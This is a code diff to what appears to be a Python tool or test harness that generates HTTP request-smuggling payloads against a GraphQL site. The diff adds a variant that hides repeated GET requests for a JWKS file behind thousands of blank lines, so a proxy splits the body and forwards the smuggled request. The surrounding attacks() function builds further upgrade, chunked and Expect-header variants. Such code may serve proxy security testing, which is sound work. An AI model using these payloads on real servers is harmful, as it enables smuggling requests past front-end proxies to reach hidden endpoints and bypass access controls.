@@ -21,6 +21,8 @@ ROUNDS = 4
 PASSWORD = "correct horse battery"
 HEAD = f"POST /api/graphql HTTP/1.1\r\nHost: {SITE}\r\nContent-Type: application/json\r\n".encode()
 HIDDEN = f"GET /.well-known/jwks.json HTTP/1.1\r\nHost: {SITE}\r\n\r\n".encode() * 3
+# More than a proxy sends in one piece: empty lines, so that whatever a piece begins with, a request may follow.
+PADDED = b"\r\n" * 8_192 + HIDDEN
 ME = b'{"query":"{ me { name } }"}'
 
 
@@ -113,6 +115,7 @@ def attacks() -> list[tuple[bytes, ...]]:
     found: list[tuple[bytes, ...]] = []
     for upgrade in UPGRADES.values():
         found += [(HEAD + upgrade + length, HIDDEN), (HEAD + upgrade + length + HIDDEN,)]
+        found.append((HEAD + upgrade + b"Content-Length: %d\r\n\r\n" % len(PADDED), PADDED))
         found += [(HEAD + upgrade + b"Transfer-Encoding: chunked\r\n\r\n", chunk)]
     found += [(HEAD + b"Expect: 100-continue\r\n" + length, HIDDEN), (HEAD + b"Expect: x\r\n" + length, HIDDEN)]
     for data in REFUSED.values():
